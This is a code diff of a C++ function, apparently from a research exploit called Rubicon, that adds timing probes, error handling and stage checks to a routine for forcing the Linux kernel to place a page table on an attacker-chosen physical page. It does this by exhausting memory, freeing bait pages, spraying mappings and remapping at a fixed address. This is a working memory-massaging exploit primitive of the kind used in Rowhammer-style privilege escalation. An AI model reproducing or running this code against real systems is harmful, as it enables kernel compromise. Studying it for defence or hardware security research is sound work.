@@ -1,34 +1,129 @@
 #include "rubicon.hpp"
+#include "probes.hpp"
+#include "rubench.hpp"
 
+#include <cerrno>
 #include <fcntl.h>
 #include <sys/mman.h>
+#include <system_error>
+
+static long long g_map_ns = 0;
+
+long long pt_install_map_ns() noexcept {
+    return g_map_ns;
+}
+
+const char* install_stage_name(InstallStage stage) noexcept {
+    switch(stage) {
+    case InstallStage::BaitFreed: return "bait-freed";
+    case InstallStage::TargetFreed: return "target-freed";
+    case InstallStage::Installed: return "installed";
+    }
+    return "unknown";
+}
 
 void* pt_install(const std::vector<void*>& bait_pages,
                  void* pt_target,
                  void* addr,
-                 const std::vector<void*>& spray_pages, int fd_spray) {
+                 SprayPool& spray, int fd_spray,
+                 const StageCheck& check) {
+    auto passes = [&check](InstallStage stage) {
+        return !check || check(stage);
+    };
+
+    RUBICON_PROBE3(pt_install__entry, pt_target, addr, bait_pages.size());
+    g_map_ns = 0;
+
+    // Keeps the exhaust, spray and the final page table on the same node
+    // as pt_target.
+    NodeBinding bind;
     unsigned long exhaust_size = exhaust_pages_size_bytes();
-    auto exhaust_ptr = mmap(NULL, exhaust_size, PROT_READ | PROT_WRITE,
-                            MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseExhaust, 0, exhaust_size);
+    void* exhaust_ptr = nullptr;
+    if(exhaust_size != 0) {
+        exhaust_ptr = mmap(NULL, exhaust_size, PROT_READ | PROT_WRITE,
+                           MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+        if(exhaust_ptr == MAP_FAILED) {
+            throw std::system_error(errno, std::system_category(),
+                                    "pt_install: exhaust mmap failed");
+        }
+    }
+    auto release_exhaust = [&] {
+        if(exhaust_size != 0) {
+            munmap(exhaust_ptr, exhaust_size);
+            rubench_invalidate_translation(exhaust_ptr, exhaust_size);
+        }
+    };
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseExhaust, exhaust_ptr,
+                   exhaust_size);
 
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseBait, 0,
+                   bait_pages.size() * PAGE_SIZE);
     unmap_pages(bait_pages);
     pcp_evict();
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseBait, 0,
+                   bait_pages.size() * PAGE_SIZE);
 
-    map_pages(spray_pages, fd_spray);
+    // The exhaust is already populated by now, so an abort here saves the
+    // spray and the install but not the exhaust itself.
+    if(!passes(InstallStage::BaitFreed)) {
+        release_exhaust();
+        return MAP_FAILED;
+    }
 
-    munmap(exhaust_ptr, exhaust_size);
+    // Cover whatever the exhaust left free on the node, bait included.
+    // Only slot 0 survives the previous round, so nearly every slot is
+    // mapped again: the spray has to allocate fresh page tables from the
+    // bait that was just freed.
+    const auto slots = SprayPool::slots_for(node_free_bytes(target_node()));
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseSpray, spray.slot(0),
+                   slots);
+    spray.arm(slots, fd_spray);
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseSpray, spray.slot(0),
+                   spray.live());
 
-    const std::vector spray_tail(spray_pages.begin() + 1, spray_pages.end());
-    unmap_pages(spray_tail); // unmaps p1 … pN-1
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseExhaustFree, exhaust_ptr,
+                   exhaust_size);
+    release_exhaust();
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseExhaustFree, exhaust_ptr,
+                   exhaust_size);
+
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseSprayRelease,
+                   spray.slot(0), spray.live());
+    spray.release(1, spray.capacity()); // unmaps p1 … pN-1
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseSprayRelease,
+                   spray.slot(0), spray.live());
 
     // Move the target as next candidate for page table allocation
     // Install the page table at the target.
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseTargetRelease, pt_target,
+                   PAGE_SIZE);
     munlock(pt_target, PAGE_SIZE);
     munmap(pt_target, PAGE_SIZE);
+    rubench_invalidate_translation(pt_target, PAGE_SIZE);
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseTargetRelease, pt_target,
+                   PAGE_SIZE);
+
+    if(!passes(InstallStage::TargetFreed)) {
+        return MAP_FAILED;
+    }
+
+    RUBICON_PROBE3(pt_install__phase__entry, kPhaseInstall, addr, PAGE_SIZE);
+    g_map_ns = monotonic_ns();
+    void* installed = mmap(addr, PAGE_SIZE,
+                           PROT_READ | PROT_WRITE,
+                           MAP_FIXED | MAP_SHARED | MAP_POPULATE,
+                           fd_spray,
+                           0);
+    rubench_invalidate_translation(addr, PAGE_SIZE);
+    RUBICON_PROBE3(pt_install__phase__exit, kPhaseInstall, installed,
+                   PAGE_SIZE);
+
+    if(installed != MAP_FAILED && !passes(InstallStage::Installed)) {
+        munmap(installed, PAGE_SIZE);
+        installed = MAP_FAILED;
+    }
 
-    return mmap(addr, PAGE_SIZE,
-                PROT_READ | PROT_WRITE,
-                MAP_FIXED | MAP_SHARED | MAP_POPULATE,
-                fd_spray,
-                0);
-}
\ No newline at end of file
+    RUBICON_PROBE3(pt_install__exit, pt_target, installed, bait_pages.size());
+    return installed;
+}